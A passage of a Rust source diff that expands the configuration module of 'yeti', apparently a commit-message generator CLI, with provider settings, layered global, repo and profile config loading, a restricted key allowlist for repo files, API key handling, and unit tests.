@@ -1,14 +1,85 @@
+use crate::cerebras::MessageOptions;
 use crate::error::{Result, YetiError};
+use crate::history::HistoryScope;
+use crate::prompt::{DEFAULT_GENERATED_DIRS, PromptLayout, PromptOptions};
+use crate::provider::ProviderKind;
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::ffi::OsString;
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
 const CEREBRAS_API_KEY_ENV: &str = "CEREBRAS_API_KEY";
+const DEFAULT_PANE_SPLIT: (u16, u16) = (46, 54);
+const DEFAULT_WRAP_WIDTH: usize = 72;
+// Neither pane may shrink below this share of the width.
+const MIN_PANE_PERCENT: u16 = 20;
 
 #[derive(Debug, Clone, Serialize, Deserialize, Default)]
 pub struct Config {
     pub api_key: Option<String>,
     pub model: Option<String>,
+    /// OpenAI-compatible API root (LiteLLM, vLLM, OpenRouter); Cerebras when unset.
+    pub base_url: Option<String>,
+    /// Send no key to `base_url`; on by default when it is a local address.
+    pub allow_no_key: Option<bool>,
+    /// `cerebras` (default) or `ollama` for local models.
+    pub provider: Option<String>,
+    pub ollama_url: Option<String>,
+    pub commit_partial_on_timeout: Option<bool>,
+    pub time_format: Option<String>,
+    /// Message lines shown in the post-exit box; 0 shows everything.
+    pub summary_max_lines: Option<usize>,
+    /// `off` (default), `global` (config dir) or `repo` (`.git/yeti-history.jsonl`).
+    pub history_scope: Option<String>,
+    /// Pass `--no-verify` so pre-commit and commit-msg hooks don't run.
+    pub skip_hooks: Option<bool>,
+    /// Older name for `skip_hooks`, still honored when that is unset.
+    pub no_verify: Option<bool>,
+    /// Shell command run before staging, e.g. a formatter.
+    pub pre_stage_command: Option<String>,
+    /// Preview every run unless `--commit` is passed.
+    pub default_dry_run: Option<bool>,
+    pub prompt_layout: Option<String>,
+    pub key_env: Option<String>,
+    pub language_tags: Option<bool>,
+    pub hunk_counts: Option<bool>,
+    pub composition: Option<bool>,
+    pub perf_hints: Option<bool>,
+    pub typewriter: Option<bool>,
+    pub fallback_models: Option<Vec<String>>,
+    pub strip_trailing_period: Option<bool>,
+    /// Extra openers ("Proposed message") dropped before the title.
+    pub preamble_phrases: Option<Vec<String>>,
+    /// Body wrap column; 0 leaves lines as generated.
+    pub wrap_width: Option<usize>,
+    pub max_completion_tokens: Option<u32>,
+    /// Sampling temperature for streamed generations, 0 to 2.
+    pub temperature: Option<f32>,
+    /// Start titles with a gitmoji such as `✨ feat[AUTH]: ...`.
+    pub gitmoji: Option<bool>,
+    /// Retries on HTTP 429/5xx before a request fails; 0 disables retrying.
+    pub max_retries: Option<u32>,
+    pub include_ignored: Option<bool>,
+    /// Walk into untracked directories when staging; false stages only
+    /// untracked files outside them.
+    pub recurse_untracked: Option<bool>,
+    pub max_file_mb: Option<u64>,
+    pub max_total_mb: Option<u64>,
+    pub generated_dirs: Option<Vec<String>>,
+    pub files_pane_percent: Option<u16>,
+    pub message_pane_percent: Option<u16>,
+    pub candidates: Option<u8>,
+    pub strip_line_references: Option<bool>,
+    pub regenerate_vague: Option<bool>,
+    pub strict: Option<bool>,
+    pub title_prefix_template: Option<String>,
+    /// Regex picking the issue for a `Refs:` footer out of the branch name.
+    pub issue_pattern: Option<String>,
+    /// Cleared once the model has been confirmed after the first key entry.
+    pub first_run: Option<bool>,
+    /// Named overlays (`[profiles.work]`) selected with `--profile`.
+    pub profiles: Option<toml::Table>,
 }
 
 impl Config {
@@ -21,40 +92,757 @@ impl Config {
             .as_deref()
             .unwrap_or_else(|| Self::default_model())
     }
+
+    /// Where chat completions are posted.
+    pub fn chat_url(&self) -> String {
+        crate::cerebras::chat_url(self.base_url.as_deref())
+    }
+
+    /// Whether `base_url` works without a key: no key prompt and no key
+    /// check. Cerebras itself always needs one.
+    pub fn allow_no_key(&self) -> bool {
+        let base = self
+            .base_url
+            .as_deref()
+            .map(str::trim)
+            .filter(|base| !base.is_empty());
+        match (base, self.allow_no_key) {
+            (None, _) => false,
+            (Some(_), Some(allow)) => allow,
+            (Some(base), None) => is_local_url(base),
+        }
+    }
+
+    /// Only an explicit `allow_no_key = true` (or `--allow-no-key`) keeps a
+    /// configured key off the request; a local `base_url` alone still sends it.
+    pub fn send_no_key(&self) -> bool {
+        self.allow_no_key() && self.allow_no_key == Some(true)
+    }
+
+    /// Backend that generates messages; unknown values fall back to Cerebras.
+    pub fn provider(&self) -> ProviderKind {
+        self.provider
+            .as_deref()
+            .and_then(ProviderKind::parse)
+            .unwrap_or_default()
+    }
+
+    /// Root of the local Ollama server, without a trailing slash.
+    pub fn ollama_url(&self) -> String {
+        match self
+            .ollama_url
+            .as_deref()
+            .map(|url| url.trim().trim_end_matches('/'))
+        {
+            Some(url) if !url.is_empty() => url.to_string(),
+            _ => crate::ollama::DEFAULT_URL.to_string(),
+        }
+    }
+
+    /// Model the key is checked against: Cerebras always serves the default,
+    /// while a custom endpoint or Ollama may only serve the configured one.
+    pub fn validation_model(&self) -> &str {
+        if self.provider() == ProviderKind::Ollama {
+            return self.model();
+        }
+        match self.base_url.as_deref().map(str::trim) {
+            Some(base) if !base.is_empty() => self.model(),
+            _ => Self::default_model(),
+        }
+    }
+
+    /// Name of the environment variable the API key is read from.
+    pub fn key_env(&self) -> &str {
+        self.key_env
+            .as_deref()
+            .filter(|name| !name.is_empty())
+            .unwrap_or(CEREBRAS_API_KEY_ENV)
+    }
+
+    /// Primary model followed by any configured fallbacks, without duplicates.
+    pub fn model_chain(&self) -> Vec<String> {
+        let mut chain = vec![self.model().to_string()];
+        for model in self.fallback_models.iter().flatten() {
+            if !model.is_empty() && !chain.contains(model) {
+                chain.push(model.clone());
+            }
+        }
+        chain
+    }
+
+    pub fn commit_partial_on_timeout(&self) -> bool {
+        self.commit_partial_on_timeout.unwrap_or(false)
+    }
+
+    pub fn prompt_options(&self) -> PromptOptions {
+        PromptOptions {
+            layout: self
+                .prompt_layout
+                .as_deref()
+                .and_then(PromptLayout::parse)
+                .unwrap_or_default(),
+            language_tags: self.language_tags.unwrap_or(true),
+            repo_name: None,
+            workspace_crates: Vec::new(),
+            fixes: None,
+            recent_commits: Vec::new(),
+            hunk_counts: self.hunk_counts.unwrap_or(true),
+            composition: self.composition.unwrap_or(true),
+            perf_hints: self.perf_hints.unwrap_or(true),
+            generated_dirs: self.generated_dirs.clone().unwrap_or_else(|| {
+                DEFAULT_GENERATED_DIRS
+                    .iter()
+                    .map(|d| d.to_string())
+                    .collect()
+            }),
+        }
+    }
+
+    pub fn message_options(&self) -> MessageOptions {
+        MessageOptions {
+            strip_trailing_period: self.strip_trailing_period.unwrap_or(true),
+            strip_line_references: self.strip_line_references.unwrap_or(true),
+            wrap_width: self.wrap_width(),
+            preamble_phrases: self.preamble_phrases.clone().unwrap_or_default(),
+        }
+    }
+
+    /// Column the body is wrapped at, or `None` when wrapping is off.
+    pub fn wrap_width(&self) -> Option<usize> {
+        match self.wrap_width.unwrap_or(DEFAULT_WRAP_WIDTH) {
+            0 => None,
+            width => Some(width),
+        }
+    }
+
+    pub fn max_completion_tokens(&self) -> u32 {
+        self.max_completion_tokens.unwrap_or(500)
+    }
+
+    /// 0 keeps messages deterministic; out-of-range values are clamped.
+    pub fn temperature(&self) -> f32 {
+        match self.temperature {
+            Some(t) if t.is_finite() => t.clamp(0.0, crate::cerebras::MAX_TEMPERATURE),
+            _ => 0.0,
+        }
+    }
+
+    pub fn gitmoji(&self) -> bool {
+        self.gitmoji.unwrap_or(false)
+    }
+
+    pub fn max_retries(&self) -> u32 {
+        self.max_retries
+            .unwrap_or(crate::cerebras::DEFAULT_MAX_RETRIES)
+    }
+
+    /// Clears `api_key` when it is the rejected one; returns whether it changed.
+    pub fn forget_api_key(&mut self, rejected: &str) -> bool {
+        if self.api_key.as_deref() == Some(rejected) {
+            self.api_key = None;
+            true
+        } else {
+            false
+        }
+    }
+
+    pub fn is_first_run(&self) -> bool {
+        self.first_run.unwrap_or(true)
+    }
+
+    /// Records the model picked on the first-run screen, keeping the default
+    /// unpinned so later releases can move it.
+    pub fn finish_first_run(&mut self, model: &str) {
+        let model = model.trim();
+        if !model.is_empty() && model != self.model() {
+            self.model = Some(model.to_string());
+        }
+        self.first_run = Some(false);
+    }
+
+    /// Completions to request and choose between; 1 keeps the streaming path.
+    pub fn candidates(&self) -> u8 {
+        self.candidates.unwrap_or(1).clamp(1, 8)
+    }
+
+    /// Retry once with a sharper prompt when the message looks generic.
+    pub fn regenerate_vague(&self) -> bool {
+        self.regenerate_vague.unwrap_or(true)
+    }
+
+    /// Reject and regenerate titles that aren't an exact `type(scope): summary`.
+    pub fn strict(&self) -> bool {
+        self.strict.unwrap_or(false)
+    }
+
+    /// Prefix for every title, with `{ticket}`/`{branch}` filled from the branch name.
+    pub fn title_prefix_template(&self) -> Option<&str> {
+        self.title_prefix_template
+            .as_deref()
+            .filter(|t| !t.trim().is_empty())
+    }
+
+    /// `None` uses the built-in ticket and `#123` detection; `""` disables the footer.
+    pub fn issue_pattern(&self) -> Option<&str> {
+        self.issue_pattern.as_deref()
+    }
+
+    pub fn typewriter(&self) -> bool {
+        self.typewriter.unwrap_or(false)
+    }
+
+    /// Flag staged files that `.gitignore` matches, so force-adds don't slip by unnoticed.
+    pub fn include_ignored(&self) -> bool {
+        self.include_ignored.unwrap_or(false)
+    }
+
+    /// Staged sizes that stop for confirmation (`--force` skips it); 0 turns a limit off.
+    pub fn size_limits(&self) -> SizeLimits {
+        const MB: u64 = 1024 * 1024;
+        SizeLimits {
+            file_bytes: self.max_file_mb.unwrap_or(10).saturating_mul(MB),
+            total_bytes: self.max_total_mb.unwrap_or(50).saturating_mul(MB),
+        }
+    }
+
+    pub fn default_dry_run(&self) -> bool {
+        self.default_dry_run.unwrap_or(false)
+    }
+
+    pub fn skip_hooks(&self) -> bool {
+        self.skip_hooks.or(self.no_verify).unwrap_or(false)
+    }
+
+    /// `time_format = "12h"` switches summaries to a 12-hour clock; anything else is 24h.
+    pub fn twelve_hour_clock(&self) -> bool {
+        self.time_format
+            .as_deref()
+            .is_some_and(|f| f.eq_ignore_ascii_case("12h"))
+    }
+
+    /// Cap on message lines in the post-exit box, or `None` for no cap.
+    pub fn summary_max_lines(&self) -> Option<usize> {
+        match self.summary_max_lines.unwrap_or(12) {
+            0 => None,
+            lines => Some(lines),
+        }
+    }
+
+    pub fn recurse_untracked(&self) -> bool {
+        self.recurse_untracked.unwrap_or(true)
+    }
+
+    pub fn pre_stage_command(&self) -> Option<&str> {
+        self.pre_stage_command
+            .as_deref()
+            .map(str::trim)
+            .filter(|command| !command.is_empty())
+    }
+
+    /// Where commit history is logged; unset or unknown values log nothing.
+    pub fn history_scope(&self) -> HistoryScope {
+        self.history_scope
+            .as_deref()
+            .and_then(HistoryScope::parse)
+            .unwrap_or_default()
+    }
+
+    /// Files/message pane widths in percent. One value alone implies the other;
+    /// a pair that doesn't sum to 100 falls back to the default split.
+    pub fn pane_split(&self) -> (u16, u16) {
+        let files = match (self.files_pane_percent, self.message_pane_percent) {
+            (Some(files), Some(message)) if files.checked_add(message) == Some(100) => files,
+            (Some(files), None) => files,
+            (None, Some(message)) => 100u16.saturating_sub(message),
+            _ => return DEFAULT_PANE_SPLIT,
+        };
+        let files = files.clamp(MIN_PANE_PERCENT, 100 - MIN_PANE_PERCENT);
+        (files, 100 - files)
+    }
 }
 
-fn config_dir() -> Result<PathBuf> {
-    let base = dirs::config_dir()
-        .ok_or_else(|| YetiError::IoError("Could not locate config directory".to_string()))?;
-    Ok(base.join("yeti"))
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct SizeLimits {
+    pub file_bytes: u64,
+    pub total_bytes: u64,
 }
 
-fn config_path() -> Result<PathBuf> {
-    Ok(config_dir()?.join("config.toml"))
+/// The platform config dir, else `$XDG_CONFIG_HOME`, else `$HOME/.config`;
+/// `None` when the environment provides none of them (bare containers).
+fn locate_config_dir(
+    platform: Option<PathBuf>,
+    xdg_config_home: Option<OsString>,
+    home: Option<OsString>,
+) -> Option<PathBuf> {
+    let xdg = xdg_config_home
+        .map(PathBuf::from)
+        .filter(|path| path.is_absolute());
+    let home = home
+        .map(PathBuf::from)
+        .filter(|path| path.is_absolute())
+        .map(|path| path.join(".config"));
+    platform.or(xdg).or(home).map(|base| base.join("yeti"))
 }
 
-pub fn load() -> Result<Config> {
-    let path = config_path()?;
-    if path.exists() {
+fn located_config_dir() -> Option<PathBuf> {
+    locate_config_dir(
+        dirs::config_dir(),
+        std::env::var_os("XDG_CONFIG_HOME"),
+        std::env::var_os("HOME"),
+    )
+}
+
+/// Falls back to a temp dir so yeti still runs (key from the env) when no
+/// config location exists; `load_global` warns about it.
+pub fn config_dir() -> PathBuf {
+    located_config_dir().unwrap_or_else(|| std::env::temp_dir().join("yeti"))
+}
+
+fn config_path() -> PathBuf {
+    config_dir().join("config.toml")
+}
+
+/// `localhost`, a loopback address, or `0.0.0.0`, with or without a port.
+fn is_local_url(url: &str) -> bool {
+    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
+    let authority = rest.split('/').next().unwrap_or_default();
+    let host = match authority.strip_prefix('[') {
+        Some(v6) => v6.split(']').next().unwrap_or_default(),
+        None => authority.split(':').next().unwrap_or_default(),
+    };
+    let host = host.to_ascii_lowercase();
+    host == "localhost"
+        || host.ends_with(".localhost")
+        || host == "0.0.0.0"
+        || host == "::1"
+        || host.starts_with("127.")
+}
+
+/// Starter config with every supported key commented out at its default.
+fn config_template() -> String {
+    let generated_dirs = DEFAULT_GENERATED_DIRS
+        .iter()
+        .map(|d| format!("\"{}\"", d))
+        .collect::<Vec<_>>()
+        .join(", ");
+    format!(
+        r#"# yeti configuration. Uncomment a line to override its default.
+
+# Cerebras API key; the environment variable named by key_env wins when set.
+# api_key = ""
+# Environment variable to read the API key from.
+# key_env = "{key_env}"
+
+# Model to generate with, and models to try in order when it is overloaded.
+# model = "{model}"
+# OpenAI-compatible API root (e.g. "http://localhost:4000/v1"); requests go to its /chat/completions.
+# base_url = "https://api.cerebras.ai/v1"
+# Run without an API key against base_url: no prompt, and no key sent even if one is set.
+# A localhost base_url skips the prompt on its own but still sends a configured key.
+# allow_no_key = false
+# "cerebras", or "ollama" to generate with a local Ollama server and no API key.
+# provider = "cerebras"
+# ollama_url = "{ollama_url}"
+# fallback_models = []
+# Completions to request and pick the best from (1-8); above 1 disables streaming
+# and samples at a temperature of at least 0.5.
+# candidates = 1
+# Upper bound on tokens the model may produce per message.
+# max_completion_tokens = {max_tokens}
+# Sampling temperature from 0 to 2; 0 gives the same message for the same diff.
+# temperature = 0.0
+# Start titles with a gitmoji, e.g. "✨ feat[AUTH]: add login".
+# gitmoji = false
+# Retries with backoff when the provider answers 429 or 5xx; 0 disables them.
+# max_retries = {max_retries}
+
+# Prompt shape: "list", "tree" or "both".
+# prompt_layout = "both"
+# Tag patch excerpts with the file's language.
+# language_tags = true
+# Note how many hunks each file's change spans.
+# hunk_counts = true
+# Tally changed files by extension ("3 .rs, 1 .toml") in the prompt and header.
+# composition = true
+# Suggest the perf type for benchmark changes and optimization keywords.
+# perf_hints = true
+# Directories summarized as one line instead of listed file by file.
+# generated_dirs = [{generated_dirs}]
+# Flag staged files that .gitignore would exclude.
+# include_ignored = false
+# Stage files inside untracked directories; false leaves those directories out.
+# recurse_untracked = true
+# Ask before committing a file or a total staged size above these, in MB; 0 disables.
+# max_file_mb = 10
+# max_total_mb = 50
+
+# Prefix inserted after the type; {{ticket}} comes from branches like proj-123-x.
+# title_prefix_template = "[{{ticket}}] "
+# Regex for the issue in the branch name, added to the body as "Refs: <issue>";
+# the first capture group wins. Unset finds PROJ-123 or #123; "" disables it.
+# issue_pattern = '([A-Z]+-\d+)'
+# Drop a trailing period from generated titles.
+# strip_trailing_period = true
+# Openers to drop before the title, besides "Here's the commit message:" and the like.
+# preamble_phrases = ["Proposed message"]
+# Wrap the body at this column (--wrap overrides it); 0 disables wrapping.
+# wrap_width = {wrap_width}
+# Remove "line 42" and @@ hunk references from generated bodies.
+# strip_line_references = true
+# Regenerate once when the message comes back generic ("update files").
+# regenerate_vague = true
+# Require exact `type(scope): summary` titles for commitlint; regenerate or fail otherwise.
+# strict = false
+# Open the partial message for review when the provider times out mid-stream.
+# commit_partial_on_timeout = false
+# Shell command run before staging so its edits are committed, e.g. "cargo fmt".
+# pre_stage_command = ""
+# Skip pre-commit and commit-msg hooks when committing (--no-verify does it once).
+# skip_hooks = false
+# Only preview by default; pass --commit to actually commit.
+# default_dry_run = false
+
+# Reveal the message character by character.
+# typewriter = false
+# "12h" or "24h" clock in the summary.
+# time_format = "24h"
+# Message lines printed in the summary box before "(+N more lines)"; 0 prints all.
+# summary_max_lines = 12
+# Log commits yeti makes to .git/yeti-history.jsonl ("repo") or the config dir ("global").
+# history_scope = "off"
+# Width of the files and message panes, in percent; must sum to 100.
+# files_pane_percent = {files_pane}
+# message_pane_percent = {message_pane}
+# Set to false after the model is confirmed on first run.
+# first_run = true
+
+# Named overrides picked with --profile; unset keys fall back to the ones above.
+# profiles = {{ work = {{ key_env = "WORK_CEREBRAS_KEY", model = "{model}" }} }}
+"#,
+        key_env = CEREBRAS_API_KEY_ENV,
+        model = Config::default_model(),
+        max_tokens = Config::default().max_completion_tokens(),
+        max_retries = crate::cerebras::DEFAULT_MAX_RETRIES,
+        ollama_url = crate::ollama::DEFAULT_URL,
+        wrap_width = DEFAULT_WRAP_WIDTH,
+        generated_dirs = generated_dirs,
+        files_pane = DEFAULT_PANE_SPLIT.0,
+        message_pane = DEFAULT_PANE_SPLIT.1,
+    )
+}
+
+/// Opens the config in the user's editor, creating a template first, and
+/// checks that the result still parses.
+pub fn edit() -> Result<()> {
+    let path = config_path();
+    if !path.exists() {
+        fs::create_dir_all(config_dir())?;
+        fs::write(&path, config_template())?;
+    }
+
+    crate::editor::open(&path)?;
+
+    let text = fs::read_to_string(&path)?;
+    toml::from_str::<Config>(&text).map_err(|e| {
+        YetiError::IoError(format!("{} is not valid: {}", path.display(), e.message()))
+    })?;
+    println!("config ok → {}", path.display());
+    Ok(())
+}
+
+/// Where an effective config value was set.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Source {
+    Global,
+    /// `.yeti.toml` at the repository root.
+    Repo,
+    Profile,
+}
+
+impl Source {
+    pub fn label(self) -> &'static str {
+        match self {
+            Source::Global => "global",
+            Source::Repo => "repo",
+            Source::Profile => "profile",
+        }
+    }
+}
+
+/// The merged config plus the layer each key came from; keys absent from
+/// `origins` are at their defaults.
+#[derive(Debug, Clone)]
+pub struct Layered {
+    pub config: Config,
+    pub origins: BTreeMap<String, Source>,
+    pub warnings: Vec<String>,
+}
+
+const REPO_CONFIG_FILE: &str = ".yeti.toml";
+// A checked-in file only shapes the message and the screen: credentials,
+// endpoints, commands and profiles stay with the user's own config.
+const REPO_ALLOWED_KEYS: [&str; 25] = [
+    "model",
+    "fallback_models",
+    "max_completion_tokens",
+    "temperature",
+    "time_format",
+    "summary_max_lines",
+    "prompt_layout",
+    "language_tags",
+    "hunk_counts",
+    "composition",
+    "perf_hints",
+    "typewriter",
+    "strip_trailing_period",
+    "preamble_phrases",
+    "wrap_width",
+    "gitmoji",
+    "generated_dirs",
+    "files_pane_percent",
+    "message_pane_percent",
+    "candidates",
+    "strip_line_references",
+    "regenerate_vague",
+    "strict",
+    "title_prefix_template",
+    "issue_pattern",
+];
+
+/// Loads the config with `profile` applied, along with a warning when a
+/// file was malformed and defaults were used instead.
+pub fn load(profile: Option<&str>) -> Result<(Config, Option<String>)> {
+    let layered = load_layered(profile)?;
+    let warning = (!layered.warnings.is_empty()).then(|| layered.warnings.join("; "));
+    Ok((layered.config, warning))
+}
+
+/// Global config, then the repository's `.yeti.toml`, then the selected profile.
+pub fn load_layered(profile: Option<&str>) -> Result<Layered> {
+    let mut warnings = Vec::new();
+    let (global, warning) = load_global()?;
+    warnings.extend(warning);
+    let mut layers = vec![(Source::Global, to_table(&global)?)];
+
+    if let Some(path) = repo_config_path()
+        && path.exists()
+    {
         let text = fs::read_to_string(&path)?;
-        let config: Config = toml::from_str(&text)?;
-        return Ok(config);
+        if let Some(table) = parse_repo_layer(&path, &text, &mut warnings) {
+            layers.push((Source::Repo, table));
+        }
+    }
+
+    let (config, origins) = resolve(layers, profile)?;
+    Ok(Layered {
+        config,
+        origins,
+        warnings,
+    })
+}
+
+/// The user's own config file only, without repo or profile overlays.
+fn load_global() -> Result<(Config, Option<String>)> {
+    let (config, warning) = read_global(&config_path())?;
+    if located_config_dir().is_none() {
+        let fallback = format!(
+            "no config directory found; using {}",
+            config_dir().display()
+        );
+        let warning = match warning {
+            Some(warning) => format!("{}; {}", fallback, warning),
+            None => fallback,
+        };
+        return Ok((config, Some(warning)));
+    }
+    Ok((config, warning))
+}
+
+/// The keys `.yeti.toml` may set, or `None` when it doesn't parse or holds a
+/// value of the wrong type; either way the run goes on with a warning.
+fn parse_repo_layer(path: &Path, text: &str, warnings: &mut Vec<String>) -> Option<toml::Table> {
+    let table = match toml::from_str::<toml::Table>(text) {
+        Ok(table) => table,
+        Err(e) => {
+            warnings.push(format!(
+                "{} is malformed ({}); ignoring it",
+                path.display(),
+                e.message().trim()
+            ));
+            return None;
+        }
+    };
+    let (table, dropped) = repo_layer(table);
+    if !dropped.is_empty() {
+        warnings.push(format!(
+            "{} can't set {}; ignoring {}",
+            path.display(),
+            dropped.join(", "),
+            if dropped.len() == 1 { "it" } else { "them" }
+        ));
+    }
+    if let Err(e) = toml::Value::Table(table.clone()).try_into::<Config>() {
+        warnings.push(format!(
+            "{} has an invalid value ({}); ignoring it",
+            path.display(),
+            e.message().trim()
+        ));
+        return None;
     }
-    Ok(Config::default())
+    Some(table)
+}
+
+/// Splits a `.yeti.toml` table into the keys a repository may set and the
+/// names of the ones it may not.
+fn repo_layer(table: toml::Table) -> (toml::Table, Vec<String>) {
+    let mut dropped = Vec::new();
+    let table = table
+        .into_iter()
+        .filter(|(key, _)| {
+            let allowed = REPO_ALLOWED_KEYS.contains(&key.as_str());
+            if !allowed {
+                dropped.push(key.clone());
+            }
+            allowed
+        })
+        .collect();
+    (table, dropped)
+}
+
+fn repo_config_path() -> Option<PathBuf> {
+    let workdir = git2::Repository::discover(".")
+        .ok()?
+        .workdir()?
+        .to_path_buf();
+    Some(workdir.join(REPO_CONFIG_FILE))
+}
+
+fn to_table(config: &Config) -> Result<toml::Table> {
+    match toml::Value::try_from(config).map_err(|e| YetiError::IoError(e.to_string()))? {
+        toml::Value::Table(table) => Ok(table),
+        _ => Ok(toml::Table::new()),
+    }
+}
+
+/// Merges layers key by key, later ones winning, then overlays
+/// `[profiles.<name>]` when a profile is selected; top-level keys act as the
+/// default profile.
+fn resolve(
+    layers: Vec<(Source, toml::Table)>,
+    profile: Option<&str>,
+) -> Result<(Config, BTreeMap<String, Source>)> {
+    let mut merged = toml::Table::new();
+    let mut origins = BTreeMap::new();
+    let mut overlay = |source, table: toml::Table, merged: &mut toml::Table| {
+        for (key, value) in table {
+            origins.insert(key.clone(), source);
+            merged.insert(key, value);
+        }
+    };
+    for (source, table) in layers {
+        overlay(source, table, &mut merged);
+    }
+
+    if let Some(name) = profile {
+        let table = merged
+            .get("profiles")
+            .and_then(|profiles| profiles.get(name))
+            .and_then(|profile| profile.as_table())
+            .cloned()
+            .ok_or_else(|| YetiError::InvalidArgs(format!("no [profiles.{}] in config", name)))?;
+        overlay(Source::Profile, table, &mut merged);
+    }
+
+    Ok((toml::Value::Table(merged).try_into()?, origins))
+}
+
+/// Runs `yeti --print-config`: every set key with the layer it came from.
+pub fn print_config(profile: Option<&str>) -> Result<()> {
+    print!("{}", render_layered(&load_layered(profile)?)?);
+    Ok(())
+}
+
+fn render_layered(layered: &Layered) -> Result<String> {
+    let mut table = to_table(&layered.config)?;
+    table.remove("profiles");
+    if table.contains_key("api_key") {
+        table.insert("api_key".to_string(), toml::Value::from("********"));
+    }
+
+    let mut out = String::new();
+    for warning in &layered.warnings {
+        out.push_str(&format!("# warning: {}\n", warning));
+    }
+    for (key, value) in &table {
+        let origin = layered.origins.get(key).map_or("default", |s| s.label());
+        out.push_str(&format!("{} = {}  # {}\n", key, value, origin));
+    }
+    if table.is_empty() {
+        out.push_str("# every key is at its default\n");
+    }
+    Ok(out)
+}
+
+/// A typo shouldn't brick yeti: fall back to defaults and copy the bad file to
+/// `config.toml.bak`, leaving it in place to fix, so a later save can't lose
+/// the user's edits.
+/// Reads the user's file at `path`. One that exists without `first_run`
+/// predates the flag, so its owner is already past first-run setup.
+fn read_global(path: &Path) -> Result<(Config, Option<String>)> {
+    if !path.exists() {
+        return Ok((Config::default(), None));
+    }
+    let text = fs::read_to_string(path)?;
+    let (mut config, warning) = parse_or_set_aside(path, &text);
+    config.first_run.get_or_insert(false);
+    Ok((config, warning))
+}
+
+fn parse_or_set_aside(path: &Path, text: &str) -> (Config, Option<String>) {
+    let err = match toml::from_str::<Config>(text) {
+        Ok(config) => return (config, None),
+        Err(err) => err,
+    };
+    let reason = err.message().trim().to_string();
+    let backup = path.with_extension("toml.bak");
+    let warning = match fs::copy(path, &backup) {
+        Ok(_) => format!(
+            "config is malformed ({}); using defaults, copied it to {}",
+            reason,
+            backup.display()
+        ),
+        Err(_) => format!("config is malformed ({}); using defaults", reason),
+    };
+    (Config::default(), Some(warning))
 }
 
 pub fn save(config: &Config) -> Result<()> {
-    let dir = config_dir()?;
+    let dir = config_dir();
     fs::create_dir_all(&dir)?;
-    let path = config_path()?;
+    let path = config_path();
     let text = toml::to_string_pretty(config)
         .map_err(|e| YetiError::IoError(format!("Failed to serialize config: {}", e)))?;
     fs::write(&path, text)?;
     Ok(())
 }
 
-pub fn get_effective_api_key(config: &Config) -> Option<String> {
-    if let Ok(env_key) = std::env::var(CEREBRAS_API_KEY_ENV)
+/// `--api-key`, then the key env var, then the stored key. The flag value is
+/// only ever held in memory.
+pub fn get_effective_api_key(config: &Config, cli_key: Option<&str>) -> Option<String> {
+    resolve_api_key(cli_key, std::env::var(config.key_env()).ok(), config)
+}
+
+fn resolve_api_key(
+    cli_key: Option<&str>,
+    env_key: Option<String>,
+    config: &Config,
+) -> Option<String> {
+    if let Some(cli_key) = cli_key
+        && !cli_key.is_empty()
+    {
+        return Some(cli_key.to_string());
+    }
+    if let Some(env_key) = env_key
         && !env_key.is_empty()
     {
         return Some(env_key);
@@ -63,18 +851,43 @@ pub fn get_effective_api_key(config: &Config) -> Option<String> {
 }
 
 pub fn save_api_key(key: &str) -> Result<()> {
-    let mut config = load().unwrap_or_default();
+    // Only the user's own file: repo and profile overlays must not be persisted.
+    let mut config = load_global().map(|(config, _)| config).unwrap_or_default();
     config.api_key = Some(key.to_string());
+    // A brand-new file still owes the model confirmation.
+    config.first_run.get_or_insert(true);
+    save(&config)
+}
+
+/// Drops the stored key after the provider rejected it, so the next run asks
+/// again instead of failing the same way. A key from the env is left alone.
+pub fn forget_api_key(rejected: &str) -> Result<()> {
+    let (mut config, _) = load_global()?;
+    if config.forget_api_key(rejected) {
+        save(&config)?;
+    }
+    Ok(())
+}
+
+/// Clears the first-run flag in the user's own file, pinning `picked` only
+/// when it was typed on the first-run screen: a model offered there because
+/// `.yeti.toml`, a profile or `--model` set it stays out of the global config.
+pub fn complete_first_run(picked: Option<&str>) -> Result<()> {
+    let mut config = load_global().map(|(config, _)| config).unwrap_or_default();
+    match picked {
+        Some(model) => config.finish_first_run(model),
+        None => config.first_run = Some(false),
+    }
     save(&config)
 }
 
 pub fn clear_local_cache() -> Result<()> {
-    let path = config_path()?;
+    let path = config_path();
     if path.exists() {
         fs::remove_file(&path)?;
     }
 
-    let dir = config_dir()?;
+    let dir = config_dir();
     if dir.exists() {
         let mut entries = fs::read_dir(&dir)?;
         if entries.next().is_none() {
@@ -84,3 +897,357 @@ pub fn clear_local_cache() -> Result<()> {
 
     Ok(())
 }
+
+#[cfg(test)]
+mod tests {
+    use super::{
+        CEREBRAS_API_KEY_ENV, Config, DEFAULT_PANE_SPLIT, Layered, Source, config_template,
+        locate_config_dir, parse_or_set_aside, parse_repo_layer, read_global, render_layered,
+        repo_layer, resolve, resolve_api_key,
+    };
+    use std::ffi::OsString;
+    use std::fs;
+    use std::path::PathBuf;
+
+    #[test]
+    fn key_env_defaults_to_cerebras_and_honors_override() {
+        let mut config = Config::default();
+        assert_eq!(config.key_env(), CEREBRAS_API_KEY_ENV);
+
+        config.key_env = Some(String::new());
+        assert_eq!(config.key_env(), CEREBRAS_API_KEY_ENV);
+
+        config.key_env = Some("WORK_CEREBRAS_KEY".to_string());
+        assert_eq!(config.key_env(), "WORK_CEREBRAS_KEY");
+    }
+
+    #[test]
+    fn pane_split_requires_sum_of_100_and_clamps_extremes() {
+        let split = |files, message| {
+            Config {
+                files_pane_percent: files,
+                message_pane_percent: message,
+                ..Config::default()
+            }
+            .pane_split()
+        };
+
+        assert_eq!(split(None, None), DEFAULT_PANE_SPLIT);
+        assert_eq!(split(Some(35), Some(65)), (35, 65));
+        assert_eq!(split(Some(35), Some(70)), DEFAULT_PANE_SPLIT);
+        assert_eq!(split(Some(30), None), (30, 70));
+        assert_eq!(split(None, Some(60)), (40, 60));
+        assert_eq!(split(Some(5), Some(95)), (20, 80));
+        assert_eq!(split(None, Some(250)), (20, 80));
+    }
+
+    #[test]
+    fn config_template_is_valid_toml_commented_or_not() {
+        let template = config_template();
+        let commented: Config = toml::from_str(&template).expect("template parses");
+        assert!(commented.model.is_none());
+
+        // Every documented key must also parse once uncommented.
+        let uncommented = template
+            .lines()
+            .map(|line| match line.strip_prefix("# ") {
+                Some(rest) if rest.contains(" = ") => rest,
+                _ => line,
+            })
+            .collect::<Vec<_>>()
+            .join("\n");
